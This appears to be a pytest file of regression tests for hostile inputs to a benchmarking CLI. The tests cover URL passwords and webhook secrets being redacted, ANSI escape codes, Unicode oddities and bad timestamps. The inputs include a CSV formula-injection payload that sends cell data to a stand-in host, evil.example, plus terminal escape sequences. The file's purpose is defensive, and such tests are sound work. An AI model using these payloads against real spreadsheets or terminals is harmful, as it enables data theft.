"""Hostile rounds 8-10 of issue #49: what the eighth to tenth rounds of hostile inputs found, each answered now."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

pytestmark = pytest.mark.unit


async def test_a_lone_surrogate_in_a_stored_run_leaves_the_json_api_answering(tmp_path: Path) -> None:
    """R8-4: a manifest string holding a ``\\ud800`` escape made ``/api/runs`` and ``/api/trends`` answer 500 for the
    whole root (orjson refuses a lone surrogate); it goes as U+FFFD now."""
    from tests.unit.test_site import M2, make_root, serving

    root = make_root(tmp_path)
    manifest = root / M2 / "manifest.json"
    data = json.loads(manifest.read_text())
    data["config"]["model"]["id"] = "\ud800evil"
    manifest.write_text(json.dumps(data))  # ensure_ascii: the escape, as another tool writes it
    async with serving(root) as site:
        for path in ("/api/runs", "/api/runs?sort=model", "/api/trends", f"/api/runs/{M2}", "/"):
            answer = await site.get(path)
            assert answer.status == 200, (path, answer.text[:300])
        assert "\ufffdevil" in (await site.get(f"/api/runs/{M2}")).text


def test_an_entry_points_reference_is_listed_with_its_controls_escaped() -> None:
    """R8-6: the name and the distribution were escaped, the reference in brackets reached the terminal raw (ESC)."""
    from importlib.metadata import EntryPoint

    from alflow.plugins import _where

    shown = _where(
        EntryPoint(name="ev\x1b[2Jname", value="nosuch\x1b[31m.mod:SPEC", group="alflow.frameworks")
    )
    assert "\x1b" not in shown
    assert "nosuch\\x1b[31m.mod:SPEC" in shown


@pytest.mark.parametrize(
    ("option", "url", "said"),
    [  # R8-1: a password holding a space or a quote was stored as it was in summary.json
        ("--base-url", "http://u:pw with SPACEPW@127.0.0.1:9", "it holds a character no URL holds"),
        ("--base-url", 'http://u:PW"QUOTEPW@127.0.0.1:9', "it holds a character no URL holds"),
        ("--base-url", "http://u:PW\tTABPW@127.0.0.1:9", "it holds a character no URL holds"),
        # R8-2: one holding '/', '#' or '?' was split into a host and a path, and printed whole
        ("--base-url", "http://u:pa/SLASHPW@127.0.0.1:9", "'@' after the host"),
        ("--base-url", "http://u:PW#HASHPW@127.0.0.1:9", "'@' after the host"),
        ("--metrics-url", "http://u:PW?QPW@127.0.0.1:9/metrics", "'@' after the host"),
        ("--prometheus-url", "http://u:p w PROMPW@127.0.0.1:9", "it holds a character no URL holds"),
    ],
)
def test_a_url_whose_password_a_parser_would_split_is_refused_without_showing_it(
    option: str, url: str, said: str
) -> None:
    from typer.testing import CliRunner

    from alflow.cli import app

    base = [] if option == "--base-url" else ["--base-url", "http://127.0.0.1:9"]
    ran = CliRunner().invoke(app, ["bench", *base, "--num-prompts", "2", option, url])
    assert ran.exit_code == 2, ran.output[-500:]
    assert f"{option}: {said}" in ran.output
    assert not [
        w for w in ("SPACEPW", "QUOTEPW", "TABPW", "SLASHPW", "HASHPW", "QPW", "PROMPW") if w in ran.output
    ]


def test_a_url_that_a_parser_splits_at_the_password_is_shown_without_it() -> None:
    """R8-2: where such a URL is shown (a stored run, an error), everything up to its last '@' goes."""
    from alflow.util.redact import redact_url, redact_urls_in_text

    for url in ("http://u:pa/SECRET@h:1", "http://u:PW#SECRET@h:1/x", "https://u:PW?SECRET@h"):
        assert "SECRET" not in redact_url(url), url
        assert "SECRET" not in redact_urls_in_text(f"cannot reach {url}: refused"), url
    assert (
        redact_url("https://hf.co/org/model@main") == "https://hf.co/org/model@main"
    )  # no user:password there


def test_the_webhook_helper_shows_only_where_a_url_points_and_names_a_bad_json_data(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """R8-3: a Slack webhook's secret is its path: ``--url 'https://hooks.slack.com/services/T/B/SECRET '`` (a
    trailing space) was printed whole; ``--json-data '[1'`` said "Expecting ',' delimiter" without naming it."""
    from alflow_deployments.webhook import main

    assert (
        main(["--url", "https://hooks.slack.com/services/T0/B0/XXSLACKSECRET ", "--out", "/tmp/never.yaml"])
        == 2
    )
    err = capsys.readouterr()
    assert "XXSLACKSECRET" not in err.out + err.err
    assert "'https://hooks.slack.com/...'" in err.out + err.err
    for data, said in (("[1", "--json-data is not valid JSON"), ("[1]", "--json-data must be a JSON object")):
        assert main(["--url", "https://h.example/x", "--json-data", data, "--out", "/tmp/never.yaml"]) == 2
        err = capsys.readouterr()
        assert said in err.out + err.err


BODIES = ('{"stream_options": {"include_usage": false}}', '{"stream": false}', '{"n": 3}', '{"max_tokens": 2}',
          '{"messages": []}', '{"model": "other"}')  # fmt: skip


@pytest.mark.parametrize("body", BODIES)
def test_an_extra_body_that_overrides_what_the_measurement_counts_on_is_refused(body: str) -> None:
    """R8-7: ``include_usage: false`` gave 0 input tokens and a wrong throughput with exit 0; ``stream: false``, ``n``
    and ``max_tokens`` failed only after the load had started."""
    from typer.testing import CliRunner

    from alflow.cli import app

    ran = CliRunner().invoke(app, ["bench", "--base-url", "http://127.0.0.1:9", "--extra-body", body])
    assert ran.exit_code == 2, ran.output[-500:]
    assert "--extra-body sets" in ran.output
    assert "which every request's body sets itself" in ran.output


def test_a_chained_storage_url_is_no_results_root() -> None:
    """R8-9: ``results serve 'simplecache::file:///root'`` listed 12 of 16 runs: the folders named with ``#`` or ``?``
    vanished without a word."""
    from typer.testing import CliRunner

    from alflow.cli import app

    for args in (["results", "serve", "simplecache::file:///tmp/r8-root"],
                 ["report", "compare", "--root", "simplecache::file:///tmp/r8-root", "-f", "csv"]):  # fmt: skip
        ran = CliRunner().invoke(app, args)
        assert ran.exit_code == 2, ran.output[-500:]
        assert "a chained URL (a::b) is not a results root" in ran.output


def test_a_compare_over_a_root_says_how_many_runs_it_could_not_read(tmp_path: Path) -> None:
    """R8-10: ``report compare --root`` left unreadable runs out without a word."""
    from typer.testing import CliRunner

    from alflow.cli import app
    from tests.unit.test_site import M2, make_root

    root = make_root(tmp_path)
    (root / M2 / "manifest.json").write_text("[]")
    ran = CliRunner().invoke(
        app, ["report", "compare", "--root", str(root), "-f", "md", "-o", str(tmp_path / "c.md")]
    )
    assert ran.exit_code == 0, ran.output[-500:]
    assert "1 run folder(s) under" in ran.output
    assert "could not be read and are left out" in ran.output


def test_an_impossible_start_is_unreadable_and_an_offset_one_is_listed_in_utc(tmp_path: Path) -> None:
    """R8-11: a run started in year 1 was listed as a normal passed run; one at ``-23:59`` was shown and sorted at
    its local time."""
    from alflow.results.catalog import Catalog
    from tests.unit.test_site import M2, make_root

    root = make_root(tmp_path)
    manifest = root / M2 / "manifest.json"
    data = json.loads(manifest.read_text())
    for started, problem in (("0001-01-01T00:00:00+00:00", True), ("2999-01-01T00:00:00+00:00", True),
                             ("2026-12-01T09:10:00-23:59", False)):  # fmt: skip
        data["started"] = started
        manifest.write_text(json.dumps(data))
        (entry,) = [e for e in Catalog(str(root)).entries() if e.rel == M2]
        assert (entry.problem is not None) == problem, (started, entry.problem)
        if problem:
            assert "is impossible" in entry.problem
        else:
            assert entry.started == "2026-12-02T09:09:00+00:00"


def test_numbers_are_ascii_and_a_huge_one_is_named_as_written() -> None:
    """R8-12: ``--concurrencies '１６'`` (full-width) ran at 16; ``99999999999999999999999`` was named as the float
    ``99999999999999991611392``."""
    from typer.testing import CliRunner

    from alflow.cli import app

    for args, said in (
        (["run", "m2", "--preset", "sim", "--concurrencies", "１６", "--dry-run"], "expected numbers separated"),
        (["bench", "--base-url", "http://127.0.0.1:9", "--percentiles", "１００"], "expected numbers separated"),
        (["run", "m2", "--preset", "sim", "--concurrencies", "99999999999999999999999", "--dry-run"],
         "(99999999999999999999999,) must all be <= 65,536"),
    ):  # fmt: skip
        ran = CliRunner().invoke(app, args)
        assert ran.exit_code == 2, (args, ran.output[-500:])
        assert said in ran.output, (args, ran.output[-500:])


NBSP, IDEOGRAPHIC_SPACE, LINE_SEPARATOR = "\u00a0", "\u3000", "\u2028"


@pytest.mark.parametrize(
    ("option", "url", "said"),
    [  # R9-1: a password holding a non-ASCII space passed round 8's check and was stored (url_spans cut the URL there)
        ("--base-url", f"http://user:pa{NBSP}NBSPPW@127.0.0.1:9", "it holds a character no URL holds"),
        ("--base-url", "http://user:pa\u0085NELPW@127.0.0.1:9", "it holds a character no URL holds"),
        # R9-2: one aiohttp cannot send as Basic auth (Latin-1) was an 83-line traceback
        (
            "--metrics-url",
            f"http://user:pa{IDEOGRAPHIC_SPACE}IDEOPW@127.0.0.1:9/m",
            "it holds a character no URL holds",
        ),
        (
            "--base-url",
            f"http://user:pa{LINE_SEPARATOR}LSEPPW@127.0.0.1:9",
            "it holds a character no URL holds",
        ),
        ("--metrics-url", "http://user:pa\u4e2dHANPW@127.0.0.1:9/m", "beyond Latin-1: percent-encode it"),
        # R9-8: an empty or ftp:// metrics URL said "cannot scrape metrics at : " without naming the option
        ("--metrics-url", "", "give an http(s)://HOST[:PORT]/PATH URL"),
        ("--metrics-url", "ftp://127.0.0.1:9/metrics", "give an http(s)://HOST[:PORT]/PATH URL"),
    ],
)
def test_round9_url_options_with_unicode_spaces_or_other_schemes_are_refused_without_the_password(
    option: str, url: str, said: str
) -> None:
    from typer.testing import CliRunner

    from alflow.cli import app

    base = [] if option == "--base-url" else ["--base-url", "http://127.0.0.1:9"]
    ran = CliRunner().invoke(app, ["bench", *base, "--num-prompts", "1", option, url])
    assert ran.exit_code == 2, ran.output[-500:]
    assert said in ran.output
    assert option in ran.output
    assert "PW" not in ran.output
    assert "Traceback" not in ran.output


def test_round9_a_url_with_a_unicode_space_in_its_password_is_redacted_and_refused_in_configuration(
    tmp_path: Path,
) -> None:
    """R9-1, R9-3, R9-9: U+00A0 in a password ended the URL for redaction (stored, printed) and for the
    configuration's credential check (an external base_url and an s3 results_root were accepted)."""
    import re

    from typer.testing import CliRunner

    from alflow.cli import app
    from alflow.util.redact import URL_CREDENTIALS_PATTERN, redact_urls_in_text, urls_with_credentials

    url = f"http://user:pa{NBSP}SECRETPW@127.0.0.1:9/api"
    assert "SECRETPW" not in redact_urls_in_text(f"the Prefect API at {url} answered")
    assert urls_with_credentials(url)
    assert re.search(
        URL_CREDENTIALS_PATTERN, url
    )  # the UI's form refuses it too (the flows' parameter schemas)
    config = tmp_path / "m2.yaml"
    for placement in (
        f'  runner: {{kind: external, base_url: "{url}", dialect: vllm}}\n  results_root: {tmp_path}\n',
        f'  results_root: "s3://AKIDX:se{NBSP}SECRETPW@bucket/x"\n',
    ):
        config.write_text(
            "server: {framework: sim, model: m}\nplacement:\n" + placement + "model: {id: m}\nk: 3\n"
            "target_al: 2.0\nconcurrencies: [2]\n",
            encoding="utf-8",
        )
        ran = CliRunner().invoke(app, ["run", "m2", "--config", str(config), "--dry-run"])
        assert ran.exit_code == 2, ran.output[-800:]
        assert "credentials in a URL are refused" in ran.output
        assert "SECRETPW" not in ran.output


def test_round9_a_csv_export_never_holds_a_live_spreadsheet_formula(tmp_path: Path) -> None:
    """R9-7: a stored model id ``=HYPERLINK(...)`` was written as a formula cell (CWE-1236)."""
    import shutil

    from typer.testing import CliRunner

    from alflow.cli import app

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "runs" / "4f9de94" / "m2"
    run = tmp_path / "m2" / next(p.name for p in fixture.iterdir())
    shutil.copytree(next(fixture.iterdir()), run)
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["config"]["model"]["id"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    (run / "manifest.json").write_text(json.dumps(manifest))
    out = tmp_path / "rows.csv"
    ran = CliRunner().invoke(app, ["report", "show", str(run), "-f", "csv", "-o", str(out)])
    assert ran.exit_code == 0, ran.output[-500:]
    import csv

    cells = [cell for row in csv.reader(out.read_text().splitlines()) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_round9_a_run_that_ends_before_it_starts_is_unreadable(tmp_path: Path) -> None:
    """R9-10: a naive start after the run's end was listed as a complete, passed run."""
    from alflow.results.catalog import Catalog
    from tests.unit.test_site import M2, make_root

    root = make_root(tmp_path)
    manifest = root / M2 / "manifest.json"
    data = json.loads(manifest.read_text())
    data["started"], data["finished"] = "2026-12-01T07:00:11", "2026-12-01T06:00:00+00:00"
    manifest.write_text(json.dumps(data))
    (entry,) = [e for e in Catalog(str(root)).entries() if e.rel == M2]
    assert entry.problem is not None
    assert "is before its start" in entry.problem


@pytest.mark.parametrize(
    "args",
    [  # R10-1: JSON values with secret-named keys, --env=NAME=..., and argparse's prefixes of secret flags
        ["--kv-transfer-config", '{"kv_connector_extra_config": {"aws_secret_access_key": "SEKRIT10"}}'],
        ['--hf-overrides={"token": "SEKRIT10"}'],
        ["--env=HF_TOKEN=SEKRIT10"],
        ["--api-k", "SEKRIT10"],
        ["--hf-tok", "SEKRIT10"],
        ["--ssl-keyfile-pass", "SEKRIT10"],
    ],
)
def test_round10_extra_args_with_a_secret_in_json_or_an_abbreviated_flag_are_refused(args: list[str]) -> None:
    import pydantic

    from alflow.config import server_config

    with pytest.raises(pydantic.ValidationError) as refused:
        server_config(framework="vllm", model="m", extra_args=args)
    assert "extra_args" in str(refused.value)
    assert "SEKRIT10" not in str(refused.value)


def test_round10_extra_args_that_hold_no_secret_still_pass() -> None:
    from alflow.config import server_config

    server_config(
        framework="vllm", model="m", extra_args=["--tokenizer", "t", "--api", "--max-model-len", "4096"]
    )


def test_round10_inputs_answer_in_one_line_before_any_work(tmp_path: Path) -> None:
    """R10-2: ``--extra-body`` keys an option sets won over it while the summary recorded the option; R10-5: a seed
    beyond 64 bits was stored as a float; R10-6: ``report show RUN -o RUN/manifest.json`` destroyed the run; R10-7:
    ``--concurrencies 1_6`` (Python reads ``_`` in numbers) ran at 16."""
    import shutil

    from typer.testing import CliRunner

    from alflow.cli import app

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "runs" / "4f9de94" / "m2"
    run = tmp_path / "m2" / next(p.name for p in fixture.iterdir())
    shutil.copytree(next(fixture.iterdir()), run)
    before = (run / "manifest.json").read_bytes()
    url = ["--base-url", "http://127.0.0.1:9"]
    cases = [
        (["bench", *url, "--extra-body", '{"temperature": 1.5}'], "give --temperature instead"),
        (["bench", *url, "--extra-body", '{"chat_template_kwargs": {}}'], "give --thinking instead"),
        (["bench", *url, "--seed", "18446744073709551617"], "must be an integer in [0,"),
        (["report", "show", str(run), "-f", "md", "-o", str(run / "manifest.json")], "is in a run folder"),
        (["report", "show", str(run), "-f", "csv", "-o", str(run / "summary.json")], "is in a run folder"),
        (
            ["run", "m2", "--preset", "sim", "--concurrencies", "1_6", "--dry-run"],
            "expected numbers separated",
        ),
    ]
    for args, said in cases:
        ran = CliRunner().invoke(app, args)
        assert ran.exit_code == 2, (args, ran.output[-500:])
        assert said in ran.output, (args, ran.output[-500:])
    assert (run / "manifest.json").read_bytes() == before
    ok = CliRunner().invoke(app, ["report", "show", str(run), "-f", "md", "-o", str(run / "report.md")])
    assert ok.exit_code == 0, ok.output[-500:]
